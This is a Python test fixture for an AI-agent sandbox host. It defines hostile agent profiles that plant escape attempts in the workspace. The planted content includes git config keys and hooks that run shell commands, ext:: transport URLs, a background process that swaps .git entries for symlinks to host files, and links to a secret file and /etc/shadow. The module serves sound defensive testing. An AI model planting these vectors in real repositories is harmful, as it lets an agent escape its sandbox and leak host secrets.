"""Agents that attack the host through what they leave in the workspace (issue 11, SPEC §6).

Every probe is a ``script`` agent (Python, run inside the sandbox). Each plants something that
would run a command, follow a link or write through one *if the host treated the workspace as
anything but data*. A command that runs leaves ``/tmp/<marker>-<key>``: inside the sandbox that
lands in the container's own ``/tmp`` (harmless); on the host it would prove an escape, so the
tests look for it on the host. ``hostile_profiles(marker, victim, secret)`` builds the profiles:
``victim`` is a host file (and ``victim + ".d"`` a host folder) that must never change,
``secret`` a host file whose content must never reach GitHub.
"""

from __future__ import annotations

from typing import Any

# Every git configuration key that runs a program, hooks that git runs on its own, attributes
# that bind them to every path. ``cmd(key)`` is a shell command leaving the key's marker.
PLANT = r"""
import os, pathlib, stat, subprocess, sys

MARKER = sys.argv[1]


def cmd(key):
    return f"sh -c 'id -u > /tmp/{MARKER}-{key}'"


KEYS = {
    "core.fsmonitor": cmd("fsmonitor"),
    "core.sshCommand": cmd("sshCommand"),
    "core.pager": cmd("pager"),
    "core.editor": cmd("editor"),
    "core.askPass": cmd("askPass"),
    "core.alternateRefsCommand": cmd("alternateRefsCommand"),
    "core.hooksPath": ".git/evil-hooks",
    "core.attributesFile": ".git/evil-attributes",
    "filter.evil.clean": cmd("filter-clean"),
    "filter.evil.smudge": cmd("filter-smudge"),
    "filter.evil.process": cmd("filter-process"),
    "filter.evil.required": "true",
    "diff.evil.textconv": cmd("textconv"),
    "diff.evil.command": cmd("diff-command"),
    "diff.external": cmd("diff-external"),
    "merge.evil.driver": cmd("merge-driver"),
    "gpg.program": cmd("gpg-program"),
    "gpg.ssh.program": cmd("gpg-ssh-program"),
    "commit.gpgSign": "true",
    "credential.helper": "!" + cmd("credential-helper"),
    "include.path": "evil-include",
    "includeIf.gitdir:/.path": "evil-include-if",
    "url.ext::sh -c touch% /tmp/" + MARKER + "-url-rewrite% >&2.insteadOf": "http://",
    "remote.origin.url": f"ext::sh -c touch% /tmp/{MARKER}-ext-transport% >&2",
    "remote.origin.uploadpack": cmd("uploadpack"),
    "remote.origin.receivepack": cmd("receivepack"),
    "protocol.allow": "always",
    "protocol.ext.allow": "always",
    "uploadpack.packObjectsHook": cmd("packObjectsHook"),
    "sequence.editor": cmd("sequence-editor"),
    "pager.diff": cmd("pager-diff"),
    "pager.status": cmd("pager-status"),
    "submodule.evil.update": "!" + cmd("submodule-update"),
    "alias.add": "!" + cmd("alias-add"),
    "alias.status": "!" + cmd("alias-status"),
}
HOOKS = ("pre-commit", "prepare-commit-msg", "commit-msg", "post-commit", "pre-push",
         "post-checkout", "post-merge", "reference-transaction", "post-index-change",
         "pre-auto-gc", "fsmonitor-watchman", "post-rewrite", "push-to-checkout", "pre-receive",
         "update", "post-update")  # fmt: skip
ATTRIBUTES = "* filter=evil diff=evil merge=evil text eol=crlf\n"


def plant(repo):
    git = pathlib.Path(repo) / ".git"
    with open(git / "config", "a") as config:
        for key, value in KEYS.items():
            section, _, name = key.rpartition(".")
            head, _, sub = section.partition(".")
            config.write(f'[{head} "{sub}"]\n' if sub else f"[{head}]\n")
            config.write(f'\t{name} = "{value}"\n')
    for extra in ("evil-include", "evil-include-if"):
        (git / extra).write_text(f"[core]\n\tfsmonitor = \"{cmd(extra)}\"\n")
    (git / "evil-attributes").write_text(ATTRIBUTES)
    (git / "info").mkdir(exist_ok=True)
    (git / "info" / "attributes").write_text(ATTRIBUTES)
    for folder in (git / "hooks", git / "evil-hooks"):
        folder.mkdir(exist_ok=True)
        for hook in HOOKS:
            path = folder / hook
            path.write_text(f"#!/bin/sh\nid -u > /tmp/{MARKER}-hook-{hook}\n")
            path.chmod(0o755)
    (pathlib.Path(repo) / ".gitattributes").write_text(ATTRIBUTES)
"""

CONFIG_ATTACK = (
    PLANT
    + r"""
# The agent's own repository and a nested one it creates, both armed — in a plan phase too
# (where a host that looked at the tree between phases would meet them).
phase = os.environ.get("BOSUN_PROMPT_FILE", "")
if not phase.endswith("prompt-plan.md"):
    pathlib.Path("/workspace/feature.txt").write_text("the agent's change\n")
    if phase.endswith("prompt-implement.md"):
        sys.exit(0)
nested = pathlib.Path("/workspace/vendor/evil")
nested.mkdir(parents=True)
git = ["git", "-C", str(nested), "-c", "user.name=a", "-c", "user.email=a@example.invalid"]
subprocess.run(["git", "init", "-q", str(nested)], check=True)
(nested / "lib.py").write_text("print('vendored')\n")
subprocess.run([*git, "add", "lib.py"], check=True)
subprocess.run([*git, "commit", "-q", "-m", "vendored"], check=True)
plant(nested)  # armed after its commit, and left dirty so a host-side look would run it
(nested / "lib.py").write_text("print('VENDORED')\n")  # same size: git must read it
# Recorded in the agent's own index as a submodule, so git's status looks inside it.
subprocess.run(["git", "-C", "/workspace", "add", "vendor/evil"], check=False)
plant("/workspace")
print("planted", len(KEYS), "config keys and", len(HOOKS), "hooks in two repositories")
"""
)

SUBMODULE_ATTACK = (
    PLANT
    + r"""
pathlib.Path("/workspace/.gitmodules").write_text(
    '[submodule "x"]\n\tpath = x\n'
    f'\turl = ext::sh -c touch% /tmp/{MARKER}-gitmodules-url% >&2\n'
    "\tupdate = !" + cmd("gitmodules-update") + "\n"
)
x = pathlib.Path("/workspace/x")
x.mkdir()
git = ["git", "-C", str(x), "-c", "user.name=a", "-c", "user.email=a@example.invalid"]
subprocess.run(["git", "init", "-q", str(x)], check=True)
(x / "code.py").write_text("print('x')\n")
subprocess.run([*git, "add", "code.py"], check=True)
subprocess.run([*git, "commit", "-q", "-m", "x"], check=True)
plant(x)
(x / "code.py").write_text("print('x, changed')\n")
print("planted .gitmodules")
"""
)

# Phase 1 (plan) leaves a process that keeps replacing ``.git`` entries with symlinks to host
# paths, and would write into the tree later; phase 2 (implement) gives it the time to.
PHASE_ATTACK = r"""
import os, pathlib, sys, time

victim, victim_dir = sys.argv[1], sys.argv[1] + ".d"
phase = os.environ.get("BOSUN_PROMPT_FILE", "")
if phase.endswith("prompt-plan.md"):
    if os.fork() == 0:
        os.setsid()
        null = os.open("/dev/null", os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        started = time.time()
        while time.time() - started < 60:
            for name, target in (("config", victim), ("index", victim), ("HEAD", victim),
                                 ("bosun-scratch.index", victim), ("objects", victim_dir)):
                link = f"/workspace/.git/{name}"
                try:
                    if os.path.isdir(link) and not os.path.islink(link):
                        os.rename(link, link + ".moved")
                    elif os.path.lexists(link):
                        os.unlink(link)
                    os.symlink(target, link)
                except OSError:
                    pass
            if time.time() - started > 1.5:
                pathlib.Path("/workspace/leftover-was-alive.txt").write_text("alive\n")
            time.sleep(0.005)
        os._exit(0)
    time.sleep(0.3)
    print("Plan: add feature.txt.")
else:
    time.sleep(2.5)
    pathlib.Path("/workspace/feature.txt").write_text("implemented\n")
    print("implemented")
"""

# ``.git`` itself becomes a link to a host file, a nested ``.git`` file points at it, and a link
# in the tree names it: nothing of its content may be read, let alone published.
LINK_ATTACK = r"""
import os, pathlib, shutil, sys

secret = sys.argv[1]
shutil.rmtree("/workspace/.git")
os.symlink(secret, "/workspace/.git")
pathlib.Path("/workspace/sub").mkdir()
pathlib.Path("/workspace/sub/.git").write_text(f"gitdir: {secret}\n")
pathlib.Path("/workspace/sub/code.py").write_text("print('sub')\n")
os.symlink(secret, "/workspace/leak.txt")
os.symlink("/etc/shadow", "/workspace/shadow")
os.mkfifo("/workspace/pipe")
pathlib.Path("/workspace/feature.txt").write_text("the agent's change\n")
print("linked .git to", secret)
"""


def hostile_profiles(marker: str, victim: str, secret: str) -> dict[str, dict[str, Any]]:
    def script(body: str, *args: str, **extra: Any) -> dict[str, Any]:
        return {"runner": "script", "command": ["python3", "-c", body, *args], **extra}

    return {
        "evil-config": script(CONFIG_ATTACK, marker),
        "evil-config-plan": script(CONFIG_ATTACK, marker, workflow="plan_implement"),
        "evil-submodule": script(SUBMODULE_ATTACK, marker),
        "evil-phases": script(PHASE_ATTACK, victim, workflow="plan_implement"),
        "evil-links": script(LINK_ATTACK, secret),
        "budgeted-sleep": {
            "runner": "script",
            "command": ["sh", "-c", "echo sandbox-ready; sleep 300"],
            "upstreams": ["https://api.anthropic.com"],  # so the run has a gateway
            "budget_usd": 1.0,
        },
    }
